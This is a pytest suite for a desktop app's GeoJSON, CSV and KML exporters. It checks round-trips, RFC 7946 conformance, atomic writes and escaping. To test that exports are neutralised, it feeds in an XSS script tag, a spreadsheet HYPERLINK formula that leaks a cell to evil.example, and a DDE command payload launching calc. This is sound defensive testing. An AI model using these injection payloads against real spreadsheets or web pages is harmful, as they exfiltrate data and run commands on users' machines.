"""Data exports: GeoJSON round-trips, CSV reads back through the importer, KML parses.

No Qt here: exporters live in the Qt-free ingest package.
"""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
from dataclasses import replace

import pytest

from desktop_app.core.dates import DatePrecision
from desktop_app.core.event import Article, Event, Place
from desktop_app.core.grading import Credibility, Grade, Reliability
from desktop_app.files import ExportError, atomic_output
from desktop_app.ingest.bundled import bundled_datasets
from desktop_app.ingest.exporters import (
    CSV_COLUMNS,
    KML_NS,
    kml_time,
    write_csv,
    write_geojson,
    write_kml,
)
from desktop_app.ingest.geojson import read_geojson
from desktop_app.store.event_store import EventStore

K = f"{{{KML_NS}}}"
NASTY = 'He said "<script>alert(1)</script>" & left; </Placemark> ]]>'


def _seed_events() -> list[Event]:
    return [e for path in bundled_datasets() for e in read_geojson(path).events]


def _nasty_event() -> Event:
    return Event(
        uid="nasty",
        title="Tags <b>and</b> & ampersands",
        start="2025-06-02T06:30",
        end="2025-06-02T09:00",
        display_date="early on 2 June",
        category="statement",
        actors=("A & B", "<C>"),
        place=Place("Çırağan <Palace>", 41.0437, 29.0159, "landmark", "TR"),
        excerpt=NASTY,
        article=Article("art-1", "Title & <more>", "Au Thor", "Outlet", None, "2025-06-02", "Text"),
        sources=("Reuters", "A <b>bold</b> outlet"),
    )


def test_geojson_round_trips_the_seed_without_loss(tmp_path):
    events = _seed_events()
    assert any(e.article and e.article.text for e in events)
    out = tmp_path / "seed.geojson"
    assert write_geojson(out, events, name="Seed") == len(events)
    back = read_geojson(out)
    assert back.problems == []
    assert back.events == events  # every field, article texts included


def test_geojson_from_a_store_carries_article_texts(tmp_path, seed_store):
    events = seed_store.all_events()
    out = tmp_path / "store.geojson"
    write_geojson(out, events, article_text=seed_store.article_text)
    back = {e.uid: e for e in read_geojson(out).events}
    for event in events:
        again = back[event.uid]
        if event.article is not None:
            text = seed_store.article_text(event.article.uid)
            assert again.article == replace(event.article, text=text)
        assert replace(again, article=None) == replace(event, article=None)
    # Re-importing into a fresh store gives the same events.
    with EventStore(tmp_path / "again.db") as store:
        store.add_events(read_geojson(out).events)
        assert store.all_events() == events


def test_geojson_keeps_an_origin(tmp_path):
    event = replace(_nasty_event(), origin=Place("Belgorod", 50.6, 36.6))
    out = tmp_path / "origin.geojson"
    write_geojson(out, [event])
    assert read_geojson(out).events == [event]


def test_geojson_follows_rfc_7946(tmp_path):
    out = tmp_path / "x.geojson"
    write_geojson(out, [*_seed_events(), _nasty_event()])
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # RFC 7946 removed it: WGS 84 longitude, latitude only
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert isinstance(feature["properties"], dict)
        assert isinstance(feature["id"], str | int)
        geometry = feature["geometry"]
        if geometry is not None:
            assert geometry["type"] == "Point"
            lon, lat = geometry["coordinates"]
            assert -180 <= lon <= 180 and -90 <= lat <= 90
    nasty = next(f for f in doc["features"] if f["id"] == "nasty")
    assert nasty["geometry"]["coordinates"] == [29.0159, 41.0437]  # longitude first
    assert read_geojson(out).events[-1] == _nasty_event()


def test_csv_has_the_importer_columns_and_reads_back(tmp_path):
    from desktop_app.ingest.pipeline import read_records
    from desktop_app.ingest.problems import BadRecord

    events = [e for e in _seed_events() if e.place is not None][:10] + [_nasty_event()]
    out = tmp_path / "events.csv"
    assert write_csv(out, events) == len(events)
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert tuple(rows[0].keys()) == CSV_COLUMNS
    assert rows[-1]["excerpt"] == NASTY
    assert rows[-1]["sources"] == "Reuters; A <b>bold</b> outlet"

    back = list(read_records(out, "csv"))
    assert not [r for r in back if isinstance(r, BadRecord)], back
    assert len(back) == len(events)
    for before, after in zip(events, back, strict=True):
        assert after.title == before.title
        assert after.excerpt == before.excerpt
        assert after.category == before.category
        assert after.sources == before.sources
        assert after.place.name == before.place.name
        assert (after.place.lat, after.place.lon) == (before.place.lat, before.place.lon)
        assert after.span == before.span


def test_kml_parses_with_times_and_escaped_text(tmp_path):
    # The standard parser reads it, as any viewer would; the importer's turn is below.
    events = _seed_events() + [_nasty_event()]
    out = tmp_path / "events.kml"
    assert write_kml(out, events, name="Seed <test>") == len(events)
    root = ET.parse(out).getroot()
    assert root.tag == f"{K}kml"
    marks = root.findall(f"{K}Document/{K}Placemark")
    assert len(marks) == len(events)
    by_id = {m.get("id"): m for m in marks}
    nasty = by_id["event-nasty"]
    assert nasty.findtext(f"{K}name") == "Tags <b>and</b> & ampersands"
    assert nasty.findtext(f"{K}TimeSpan/{K}begin") == "2025-06-02T06:30:00Z"
    assert nasty.findtext(f"{K}TimeSpan/{K}end") == "2025-06-02T09:00:00Z"
    assert nasty.findtext(f"{K}Point/{K}coordinates") == "29.0159,41.0437"
    description = nasty.findtext(f"{K}description")
    # The description is HTML in which the data is escaped: no tag from the data survives.
    assert "<script>" not in description and "&lt;script&gt;" in description
    data = {d.get("name"): d.findtext(f"{K}value") for d in nasty.iter(f"{K}Data")}
    assert data["excerpt"] == NASTY
    placed = sum(1 for m in marks if m.find(f"{K}Point") is not None)
    assert placed == sum(1 for e in events if e.place is not None)
    # Every event has a time for Google Earth's slider.
    for m in marks:
        assert m.find(f"{K}TimeStamp/{K}when") is not None or m.find(f"{K}TimeSpan") is not None


@pytest.mark.parametrize(
    ("iso", "precision", "kml"),
    [
        ("2025-06-02", "day", "2025-06-02"),
        ("2025-06-02", "month", "2025-06"),
        ("2025-06", "year", "2025"),
        ("2025-06-02T06:30", "day", "2025-06-02T06:30:00Z"),
        ("2025-06-02T06:30:15+03:00", "day", "2025-06-02T06:30:15+03:00"),
        ("2022-01", "approximate", "2022-01"),
    ],
)
def test_kml_times(iso, precision, kml):
    assert kml_time(iso, precision) == kml


def test_unwritable_path_is_one_line_and_leaves_nothing(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ExportError) as caught:
        write_geojson(blocker / "out.geojson", _seed_events())
    assert "\n" not in str(caught.value)
    with pytest.raises(ExportError):
        write_csv(tmp_path / "missing" / "out.csv", _seed_events())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]


def test_failed_write_keeps_the_old_file(tmp_path):
    out = tmp_path / "keep.csv"
    out.write_text("old")

    def broken():
        yield _nasty_event()
        raise RuntimeError("disk full")

    with pytest.raises(RuntimeError):
        write_csv(out, broken())
    assert out.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["keep.csv"]


def test_atomic_folder_refuses_a_non_empty_one(tmp_path):
    (tmp_path / "frames").mkdir()
    (tmp_path / "frames" / "x").write_text("x")
    with pytest.raises(ExportError), atomic_output(tmp_path / "frames", directory=True):
        pass


def test_kml_round_trips_through_the_importer(tmp_path):
    from desktop_app.ingest.pipeline import import_file
    from desktop_app.store.event_store import EventStore

    events = [e for e in _seed_events() if e.place is not None]
    out = tmp_path / "events.kml"
    write_kml(out, events, name="Seed")
    with EventStore(tmp_path / "back.db") as store:
        report = import_file(out, store, fmt="kml")
        assert report.skipped == 0 and report.imported == len(events)
        back = store.all_events()
    key = lambda e: (e.title, round(e.place.lat, 4), round(e.place.lon, 4))  # noqa: E731
    assert sorted(map(key, back)) == sorted(map(key, events))
    spans = sorted(e.span for e in back)
    assert spans == sorted(e.span for e in events)


def _formula_event() -> Event:
    return Event(
        uid="formula",
        title='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        start="2025-06-02",
        display_date="-2+3+cmd|' /C calc'!A0",
        category="statement",
        actors=("@SUM(1+1)", "Ann"),
        place=Place("+Town", 41.5, -3.5),
        excerpt="\tindented",
        article=Article("art-f", "\rreturn", "'=already quoted", "Outlet", None, "2025-06-02"),
        sources=("-minus", "Reuters"),
    )


def test_csv_text_cells_cannot_run_as_formulas(tmp_path):
    out = tmp_path / "formula.csv"
    write_csv(out, [_formula_event()])
    with out.open(encoding="utf-8-sig", newline="") as f:
        row = next(csv.DictReader(f))
    for column in ("title", "display_date", "actors", "place", "excerpt", "article_title",
                   "article_author", "sources"):  # fmt: skip
        assert row[column].startswith("'"), (column, row[column])
    assert row["title"] == "'" + _formula_event().title
    assert row["article_author"] == "''=already quoted"
    assert row["category"] == "statement" and row["start"] == "2025-06-02"
    # Numbers stay numbers: a spreadsheet must read -3.5 as a longitude, not as text.
    assert (row["latitude"], row["longitude"]) == ("41.5", "-3.5")


def test_csv_marks_come_off_when_our_export_is_imported(tmp_path):
    from desktop_app.ingest.pipeline import read_records

    event = _formula_event()
    out = tmp_path / "formula.csv"
    write_csv(out, [event])
    (back,) = read_records(out, "csv")
    assert back.title == event.title
    assert back.excerpt == "\tindented"
    assert back.place.name == "+Town" and back.place.lon == -3.5
    assert back.sources == ("-minus", "Reuters")
    # A file that is not ours keeps its cells as written.
    other = tmp_path / "other.csv"
    other.write_text("date,title,lat,lon\n2025-06-02,'=not ours,1,2\n", encoding="utf-8")
    (foreign,) = read_records(other, "csv")
    assert foreign.title == "'=not ours"


def _every_field_events() -> list[Event]:
    """Events that between them fill every field an Event has."""
    full = replace(
        _nasty_event(),
        uid="full",
        origin=Place("Belgorod <airfield>", 50.643, 36.5714, "airfield", "RU"),
        article=Article(
            "art-1", "Title & <more>", "Au Thor", "Outlet", "https://example.org/a?b=1&c=2",
            "2025-06-02",
        ),
        # A dataset's own fields, with names and values that are awkward in each format.
        attributes=(
            ("fatalities", "3"), ("notes", 'He said "no" <b>&</b>'), ("Event Type", "=SUM(A1)"),
            ("empty", ""), ("ünïcode/name", "Харків\nline two"),
        ),
        grade=Grade(Reliability.B, Credibility.PROBABLY_TRUE, "=wire agency; <one> outlet"),
    )  # fmt: skip
    month = Event(
        uid="month-no-place",
        title="=Talks resume in May",  # a formula to a spreadsheet
        start="2025-05",
        precision=DatePrecision.MONTH,
        display_date="some time in May",
        category="diplomacy",
        excerpt="-the talks, it said, resume in May",
        sources=("TASS",),
    )
    strike = Event(
        uid="origin-target",
        title="Drones from Kursk strike Sumy",
        start="2025-05-30",
        end="2025-06-01",
        precision=DatePrecision.APPROXIMATE,
        display_date="over the weekend",
        category="strike",
        actors=("Russia",),
        place=Place("Sumy", 50.9077, 34.7981, "city", "UA"),
        origin=Place("Kursk", 51.7373, 36.1874, None, "RU"),
        excerpt="Drones launched from Kursk struck Sumy.",
    )
    west = Event(
        uid="west",
        title="Protest in Lisbon",
        start="2025-06-02T18:45:00",
        category="politics",
        place=Place("Lisbon", 38.7223, -9.1393, "city", "PT"),
    )
    return [full, month, strike, west]


FIELDS = ("title", "start", "end", "precision", "display_date", "category", "actors",
          "excerpt", "sources", "origin", "attributes", "grade")  # fmt: skip


def _assert_same_fields(before: Event, after: Event) -> None:
    for name in FIELDS:
        assert getattr(after, name) == getattr(before, name), (before.uid, name)
    assert after.place == before.place, before.uid  # name, lat, lon, kind and country
    if before.article is None:
        assert after.article is None, before.uid
    else:
        for name in ("uid", "title", "author", "outlet", "url", "published"):
            assert getattr(after.article, name) == getattr(before.article, name), (
                before.uid,
                f"article {name}",
            )


@pytest.mark.parametrize("fmt", ["csv", "geojson", "kml"])
def test_every_export_we_import_round_trips_every_field(tmp_path, fmt):
    from desktop_app.ingest.exporters import write_data
    from desktop_app.ingest.pipeline import import_file

    events = _every_field_events()
    out = tmp_path / f"events.{fmt}"
    assert write_data(fmt, out, events) == len(events)
    with EventStore(tmp_path / "back.db") as store:
        report = import_file(out, store)
        assert (report.imported, report.skipped) == (len(events), 0), report.problems
        back = {e.title: e for e in store.all_events()}
    assert set(back) == {e.title for e in events}
    for event in events:
        _assert_same_fields(event, back[event.title])
